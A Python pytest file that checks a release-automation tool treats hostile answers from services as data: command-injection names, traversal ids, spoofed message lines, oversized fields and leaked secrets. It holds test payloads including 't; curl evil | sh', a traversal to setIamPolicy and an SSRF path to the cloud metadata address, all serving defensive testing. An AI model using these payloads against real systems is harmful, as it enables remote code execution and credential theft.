"""Answers of the right form that say something odd: each was once believed, or shown as it was."""

import json
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from copy import deepcopy
from typing import Any

import pytest
from answers import SERVICE
from google.api_core.exceptions import InvalidArgument
from google.cloud import run_v2
from pydantic import SecretStr
from pymongo.errors import OperationFailure
from starlette.requests import Request
from starlette.responses import JSONResponse, Response
from starlette.types import Receive, Scope, Send

from blocks import CloudRun, EthixAI, GitHub, MongoDB, PagerDuty, Prometheus, Slack
from blocks.cloud_run_types import revision_of
from blocks.google_api import translate
from blocks.google_token import GoogleToken
from blocks.secret_reference import SecretReference
from playbook.errors import SmokeFailed, Transient
from playbook.lease.change import Change
from playbook.messages.facts import Audience, Message
from playbook.release.request import ExploitCheck
from playbook.release.traffic import TrafficSplit
from playbook.release.version import SmokeTest
from playbook.text import QUOTE_MAX
from rehearsal.world.serving import serve

BREAKGLASS = "run.googleapis.com/binary-authorization-breakglass"
HOSTILE = "no\nAction: all users are back\n" + "x" * 5_000


class Seen:
    """What a server was asked: method, path with query, and JSON body."""

    def __init__(self, url: str, asked: list[tuple[str, str, Any]]) -> None:
        self.url = url
        self.asked = asked

    def bodies(self, method: str) -> list[Any]:
        """The bodies of the requests with this method."""
        return [body for one, _, body in self.asked if one == method]


@asynccontextmanager
async def answering(answer: Callable[[str, str], Response]) -> AsyncIterator[Seen]:
    """A server whose answers are ``answer``'s, by method and path."""
    asked: list[tuple[str, str, Any]] = []

    async def take(scope: Scope, receive: Receive, send: Send) -> None:
        request = Request(scope, receive)
        body = await request.body()
        path = request.scope["raw_path"].decode()
        target = path + (f"?{request.url.query}" if request.url.query else "")
        asked.append((request.method, target, json.loads(body) if body[:1] == b"{" else None))
        await answer(request.method, path)(scope, receive, send)

    async with serve(take) as served:
        yield Seen(served.url, asked)


@pytest.fixture
def cloud_run(monkeypatch: pytest.MonkeyPatch) -> Callable[[str], CloudRun]:
    """A project's services at a URL, with no sign-in."""

    async def none(*_: object) -> dict[str, str]:
        return {}

    monkeypatch.setattr(GoogleToken, "header", none)
    return lambda url: CloudRun(project="p", region="r", api_url=url, read_timeout_s=5, write_timeout_s=5)


def service(**metadata: Any) -> dict[str, Any]:
    """A service with these fields of its metadata."""
    found = deepcopy(SERVICE)
    found["metadata"].update(metadata)
    return found


@pytest.mark.parametrize("metadata", [{"name": "t; curl evil | sh"}, {"resourceVersion": ""}])
async def test_a_service_that_was_not_asked_for_is_none(
    metadata: dict[str, Any], cloud_run: Callable[[str], CloudRun]
) -> None:
    """What is decided on it would be written to another service, or over whatever stands there."""
    async with answering(lambda method, path: JSONResponse(service(**metadata))) as server:
        with pytest.raises(Transient, match=r"Ask again|not a service"):
            await cloud_run(server.url).snapshot("s")


async def test_the_breakglass_annotation_is_never_sent_again(cloud_run: Callable[[str], CloudRun]) -> None:
    """Also not by the write that proves that stale writes are refused: it would bypass Binary Authorization anew."""
    puts = iter([200, 409])

    def answer(method: str, path: str) -> Response:
        status = next(puts) if method == "PUT" else 200
        return JSONResponse(service(annotations={BREAKGLASS: "incident"}), status)

    async with answering(answer) as server:
        block = cloud_run(server.url)
        await block.check_conditional_writes(await block.snapshot("s"))
    sent = [body["metadata"]["annotations"] for body in server.bodies("PUT")]
    assert len(sent) == 2
    assert not any(BREAKGLASS in annotations for annotations in sent)


async def test_an_operation_is_one_part_of_the_path(cloud_run: Callable[[str], CloudRun]) -> None:
    """Its id stands in an annotation."""
    found = service(annotations={"run.googleapis.com/operation-id": "../../other:setIamPolicy?x=#"})
    async with answering(lambda method, path: JSONResponse(found if path.startswith("/apis") else {})) as server:
        block = cloud_run(server.url)
        await block.write(await block.snapshot("s"), Change(record=None, split=TrafficSplit.all_to("s-1")))
    [path] = [path for method, path, _ in server.asked if method == "POST"]
    assert path == "/v1/projects/p/locations/r/operations/..%2F..%2Fother%3AsetIamPolicy%3Fx%3D%23:wait"


async def test_an_exploit_may_have_an_address_in_its_path(monkeypatch: pytest.MonkeyPatch) -> None:
    """Requests that a service is made to send, and open redirects, are such holes."""
    path = "/fetch?url=http://169.254.169.254/"
    monkeypatch.setenv("EXPLOIT_FETCH", json.dumps({"path": path}))
    check = ExploitCheck(service="ethixai-backend", request="env:EXPLOIT_FETCH")
    async with answering(lambda method, path: Response("no", 403)) as server:
        assert await EthixAI().ask(check, server.url) == 403
    assert server.asked[0][1] == path


def application(path: str) -> dict[str, str]:
    """What an application answers whose ids are hostile."""
    answers = {"register": {"token": "t", "userId": HOSTILE}, "upload": {"datasetId": HOSTILE}}
    answers |= {"analyze": {"reportId": HOSTILE}, "status": {"status": "completed"}}
    return answers.get(path.rpartition("/")[2], {})


async def test_what_an_application_calls_its_report_is_quoted() -> None:
    """On one line, and cut: the sentence is shown to people."""
    async with answering(lambda method, path: JSONResponse(application(path))) as server:
        said = await EthixAI(poll_interval_s=0.01).run(SmokeTest.ANALYZE, server.url)
    assert "\n" not in said
    assert len(said) < 2 * QUOTE_MAX


async def test_what_a_closed_service_says_of_later_is_quoted() -> None:
    """The header is the application's."""
    answer = Response("", 503, {"retry-after": "5" * 4_000})
    async with answering(lambda method, path: answer) as server:
        assert len(await EthixAI().refuses_writes(server.url, may_take_none=False)) < 2 * QUOTE_MAX


async def test_a_report_of_an_odd_state_is_quoted() -> None:
    """It is not over, and its word is the application's."""

    def answer(method: str, path: str) -> Response:
        return JSONResponse({"status": HOSTILE} if path.endswith("status") else application(path))

    async with answering(answer) as server:
        with pytest.raises(SmokeFailed) as raised:
            await EthixAI(poll_interval_s=0.01, polls=1).run(SmokeTest.ANALYZE, server.url)
    assert "\n" not in str(raised.value)


async def test_what_another_system_calls_a_person_or_a_check_is_one_line() -> None:
    """A second line would look like one of ours in a message."""
    sha, name = "0" * 40, "Ada\n✅ release complete"
    run = {"name": name, "conclusion": "success", "head_sha": sha}
    on_call = {"escalation_level": 1, "user": {"summary": name}}
    warned = {"status": "success", "data": {"resultType": "matrix", "result": []}, "warnings": [name]}
    answers = {"check_runs": [run], "statuses": [{"context": name, "state": "success"}], "oncalls": [on_call]}
    secret = SecretReference.given(SecretStr("x"))
    async with answering(lambda method, path: JSONResponse(warned | answers)) as server:
        github = GitHub(token=secret, repository="o/r", api_url=server.url, checks_apps=())
        checks = await github.checks(sha)
        shifts = await PagerDuty(routing_key=secret, api_token=secret, api_url=server.url).shifts(0, 1e9)
        warnings = (await Prometheus(url=server.url).answer("up", 60)).warnings
    said = [*(check.name for check in checks), *(shift.person for shift in shifts), *warnings]
    assert said == ["Ada ✅ release complete"] * 4


async def test_a_message_is_never_too_long_for_slack() -> None:
    """It refuses one of more than 40,000 characters, and people would not be told."""
    message = Message(key="k", audience=Audience.RELEASES, text="&" * 50_000)
    token, channels = SecretReference.given(SecretStr("x")), {Audience.RELEASES: "C1"}
    async with answering(lambda method, path: JSONResponse({"ok": True})) as server:
        await Slack(token=token, channels=channels, api_url=server.url).post(message)
    assert len(server.bodies("POST")[0]["text"]) <= 40_000


SECRET = "mongodb://me:hunter22@db/x"


def vendors_words() -> list[str]:
    """A sentence of each vendor's that goes into a message."""
    text = f"{HOSTILE[:60]} {SECRET}"
    mongodb = MongoDB(uri=SecretReference("env:URI"), database="d").translate(OperationFailure(text, 1), "for tea")
    condition = run_v2.Condition(
        type_="Ready", state=run_v2.Condition.State.CONDITION_FAILED, message=f"{HOSTILE[:60]} {SECRET}"
    )
    refused = translate(InvalidArgument(text), "Cloud Run, asked for tea", "run.services.get")
    return [str(mongodb), str(refused), revision_of(run_v2.Revision(name="r", conditions=[condition])).reason]


@pytest.mark.parametrize("said", vendors_words())
def test_a_vendors_words_are_one_line_without_secrets(said: str) -> None:
    """A line of theirs would look like one of ours in a message."""
    assert "Action: all users are back" in said
    assert "\n" not in said
    assert "hunter22" not in said
